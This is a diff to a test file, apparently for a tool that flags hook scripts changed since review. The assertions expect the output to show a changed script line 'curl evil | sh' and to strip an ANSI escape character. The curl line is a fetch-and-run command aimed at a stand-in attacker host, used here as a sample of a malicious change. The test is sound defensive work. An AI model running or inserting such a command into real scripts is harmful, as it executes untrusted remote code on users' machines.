@@ -57,7 +57,13 @@ describe('hooks trust', () => {
     expect(again.code).toBe(1);
     expect(again.stdout).toContain('curl evil | sh');
     expect(again.stdout).toContain(`Changed since the review: ${join(world.root, 'scripts/check.sh')}`);
-    expect(again.stdout).toMatch(/reviewed before:\n[^─]*echo noise/);
+    expect(again.stdout).toMatch(
+      /what changed:\n[^─]*\n {2}- {2}"command": "echo noise"[^─]*\n {2}\+ {2}"command": "echo other"/,
+    );
+    expect(again.stdout).toMatch(
+      /\n {2} #!\/bin\/sh\n {2}-echo \\u\{1B\}\[2K"\{\}"\n {2}\+curl evil \| sh\n/,
+    );
+    expect(again.stdout).not.toContain('\u001B');
   });
 
   it('keeps off what is named, and trusts the rest', async () => {
